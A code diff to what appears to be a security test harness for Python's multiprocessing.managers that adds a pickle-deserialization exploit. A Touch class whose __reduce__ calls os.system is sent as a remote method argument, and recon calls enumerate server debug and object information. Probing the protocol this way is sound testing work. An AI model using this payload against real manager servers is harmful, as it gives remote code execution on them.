@@ -1,4 +1,5 @@
 """multiprocessing.managers at both ends: servers, and the tours that clients take through them. CPython 2.7 to 3.13."""
+import os
 import sys
 from multiprocessing import AuthenticationError
 from multiprocessing import connection as mp
@@ -113,15 +114,35 @@ def measure_tour(m):
     print(m.Calculator(1).measure(shapes.Circle(4)))
 
 
-TOURS = {"sync": sync_tour, "nested": nested_tour, "queue": queue_tour, "office": office_tour,
+class Touch(object):
+    """An attack that looks like any argument."""
+
+    def __reduce__(self):
+        return os.system, (exploits.TOUCH,)
+
+
+def argument_tour(m):
+    """An exploit for a method's argument: the call goes on with what it returned."""
+    print("answer", m.Calculator(1)._callmethod("add", (Touch(),)))
+
+
+def unexposed_tour(m):
+    """A method that is there and not exposed."""
+    try:
+        m.Calculator(1)._callmethod("__init__", (7,))
+    except managers.RemoteError as e:
+        print("refused", str(e).strip().splitlines()[-2][:60])
+
+
+TOURS = {"argument": argument_tour, "unexposed": unexposed_tour, "sync": sync_tour, "nested": nested_tour, "queue": queue_tour, "office": office_tour,
          "office-xml": office_xml_tour, "measure": measure_tour}
 
 
-def call(task, key, function):
+def call(task, key, function, *args):
     """One request of a manager's own protocol, on a connection of its own, as managers do it."""
     conn = mp.Client(tuple(task["address"]), authkey=key)
     try:
-        return managers.dispatch(conn, None, function)
+        return managers.dispatch(conn, None, function, args)
     finally:
         conn.close()
 
@@ -135,6 +156,18 @@ def manager_client(task, key):
             conn.close()
         elif tour in ("shutdown", "dummy"):
             print(tour, call(task, key, tour))
+        elif tour == "recon":
+            print(tour, call(task, key, "debug_info"), call(task, key, "debug_info"))
+            if task["manager"] == "office":
+                made = call(task, key, "create", "Calculator")
+                print(made, call(task, key, "get_methods", managers.Token("Calculator", None, made[0])))
+            if sys.version_info[0] > 2 or task["manager"] == "sync":
+                print(call(task, key, "number_of_objects"))
+        elif tour == "no-such-function":
+            try:
+                call(task, key, "serve_client")
+            except managers.RemoteError as e:
+                print("refused", str(e).strip().splitlines()[-2][:60])
         elif tour == "refused":
             try:
                 manager_of(task, key).connect()
